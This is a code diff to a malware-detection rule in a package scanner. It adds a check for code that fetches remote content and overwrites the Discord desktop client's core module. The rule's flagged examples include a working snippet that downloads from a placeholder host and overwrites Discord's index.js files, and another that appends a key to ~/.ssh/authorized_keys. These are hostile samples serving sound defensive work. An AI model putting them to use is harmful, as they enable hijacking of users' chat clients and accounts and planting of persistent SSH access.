@@ -9,10 +9,11 @@ export default defineRule({
     behaviour: 'spread',
     messages: {
       persists: 'Writes to {what}',
+      injects: 'Writes what it fetched into a file, and knows where the chat client’s code is',
       package: 'Writes into another package: {path}',
       restores: 'Sets a file’s times back after changing it',
     },
-    bits: { persists: 4, package: 5, restores: 5 },
+    bits: { injects: 12, persists: 4, package: 5, restores: 5 },
   },
   examples: {
     flags: [
@@ -25,6 +26,10 @@ export default defineRule({
         code: `require('fs').appendFile(process.env.HOME + '/.ssh/authorized_keys', key, () => {});`,
       },
       {
+        title: 'the chat client’s code is replaced by what is fetched',
+        code: `const fs = require('fs'), glob = require('glob'), https = require('https');\nconst files = glob.sync(process.env.LOCALAPPDATA + '/Discord/app-*/modules/discord_desktop_core-*/discord_desktop_core/index.js');\nhttps.get('https://host.invalid/client.js', response => {\n  let text = '';\n  response.on('data', chunk => { text += chunk; });\n  response.on('end', () => files.forEach(file => fs.writeFileSync(file, text)));\n});`,
+      },
+      {
         title: 'a workflow is planted',
         code: `require('fs').writeFileSync(repo + '/.github/workflows/build.yml', text);`,
       },
@@ -34,13 +39,28 @@ export default defineRule({
         title: 'a cache is kept beside the packages',
         code: `require('fs').writeFileSync('node_modules/.cache/tool/state.json', '{}');`,
       },
+      {
+        title: 'a theme is fetched and kept',
+        code: `const fs = require('fs');\nfetch('https://themes.invalid/dark.css').then(r => r.text()).then(css => fs.writeFileSync('./themes/dark.css', css));`,
+      },
       { title: 'a configuration file is written', code: `require('fs').writeFileSync('.toolrc', '{}');` },
     ],
   },
   file(context) {
+    const client = chatClientCode(context);
     for (const call of context.calls('write')) {
-      const [path] = call.args;
+      const [path, text] = call.args;
       if (!path) continue;
+      if (client && text && context.labelsOf(text).some(({ kind }) => kind === 'remote')) {
+        context.report({
+          messageId: 'injects',
+          chain: [
+            step('context', 'names the chat client’s code', context.file, client),
+            step('sink', `writes what it fetched with ${call.name}`, context.file, call.node),
+          ],
+        });
+        break;
+      }
       for (const text of context.textsOf(path)) {
         const place = PERSISTENT_PLACES.find(({ pattern }) => text.length < 500 && pattern.test(text));
         const other =
@@ -78,6 +98,13 @@ export default defineRule({
     }
   },
 });
+
+/** Where the file names the folder of the chat client's own code. */
+function chatClientCode({ nodes, textsOf }: FileContext): AnyNode | undefined {
+  return [...nodes('Literal'), ...nodes('TemplateLiteral')].find(node =>
+    textsOf(node).some(text => text.length < 500 && /discord_desktop_core/i.test(text)),
+  );
+}
 
 function written({ file }: FileContext, node: AnyNode): string {
   return file.text.slice(node.start ?? node.range?.[0], node.end ?? node.range?.[1]);
